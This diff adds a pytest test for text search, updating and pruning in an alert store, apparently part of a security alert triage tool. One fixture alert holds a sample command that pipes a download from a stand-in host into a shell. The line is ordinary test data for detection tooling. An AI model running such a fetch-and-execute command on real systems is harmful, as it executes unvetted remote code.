@@ -121,3 +121,23 @@ def test_pruned_alerts_take_their_triage_rows_along(store: AlertStore) -> None:
     assert store.prune(2_000.0) == 1
     for table in ("alert_state", "alert_tags", "alert_entities", "alert_text", "alert_notes", "alert_history"):
         assert store._db.execute(f"SELECT COUNT(*) FROM {table}").fetchone()[0] == 0, table
+
+
+@pytest.mark.parametrize("fts", [True, False])
+def test_text_search_finds_substrings_of_values(store: AlertStore, fts: bool) -> None:
+    store.fts = fts and store.fts  # False: the scan a SQLite without the trigram tokenizer uses
+    a = alert(1, event={"user": "alice", "host": "h1", "cmd": 'curl "https://x.example/a b" | sh'})
+    b = alert(2, event={"user": "bob", "host": "h2", "cmd": "ls"})
+    store.upsert([a.to_document(), b.to_document()])
+
+    def found(text: str) -> int:
+        return store.query(AlertQuery(text=text)).total
+
+    assert found("X.EXAMPLE/A B") == 1 and found('"https') == 1 and found("ls") == 1 and found("h") == 2
+    assert found("cmd") == 0 and found("curl https") == 0 and found("%") == 0
+    changed = a.to_document()
+    changed["message"] = "renamed zebra"
+    store.upsert([changed])
+    assert found("zebra") == 1
+    store.prune(2e9)
+    assert found("alice") == 0 and found("zebra") == 0
